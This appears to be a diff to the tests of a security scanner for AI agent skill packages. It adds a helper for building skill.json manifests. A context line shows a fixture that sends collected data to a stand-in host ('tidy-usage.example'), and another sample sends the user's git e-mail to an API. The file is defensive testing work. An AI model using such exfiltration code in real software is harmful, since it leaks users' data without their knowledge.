@@ -13,6 +13,12 @@ type File = { path: string; bytes: Buffer };
 const file = (path: string, text: string): File => ({ path, bytes: Buffer.from(text) });
 const skillMd = file('SKILL.md', '---\nname: variant\ndescription: d\n---\n# Variant\n');
 
+/** a skill.json declaring these capabilities */
+function manifestFile(capabilities: Record<string, string[]>): File {
+  const m = { name: 'variant', version: '1.0.0', description: 'd', capabilities };
+  return file('skill.json', JSON.stringify(m));
+}
+
 function scan(name: string, code: string, extra: File[] = []): ScanReport {
   return scanFiles([skillMd, file(`scripts/${name}`, code), ...extra]);
 }
@@ -360,15 +366,7 @@ git("push", "https://git.hosted.example/team/repo.git", "main")
   });
 
   it('passes a skill that pushes to its declared host without reading secrets', () => {
-    const manifest = file(
-      'skill.json',
-      JSON.stringify({
-        name: 'variant',
-        version: '1.0.0',
-        description: 'd',
-        capabilities: { network: ['git.docs.example.com'], exec: ['git'] },
-      }),
-    );
+    const manifest = manifestFile({ network: ['git.docs.example.com'], exec: ['git'] });
     const r = scan('b4.js', benign[3]?.[1] ?? '', [manifest]);
     assert.equal(r.verdict, 'pass', r.summary);
   });
@@ -397,15 +395,7 @@ require('https').get('https://tidy-usage.example/p?' + seen.toString());
   });
 
   it('does not fail an API skill that sends the user e-mail to its declared host', () => {
-    const manifest = file(
-      'skill.json',
-      JSON.stringify({
-        name: 'variant',
-        version: '1.0.0',
-        description: 'd',
-        capabilities: { network: ['tracker.example.com'], exec: ['git'] },
-      }),
-    );
+    const manifest = manifestFile({ network: ['tracker.example.com'], exec: ['git'] });
     const code = `import subprocess, requests
 me = subprocess.check_output(["git", "config", "user.email"], text=True).strip()
 requests.get("https://tracker.example.com/api/issues", params={"assignee": me}, timeout=5)
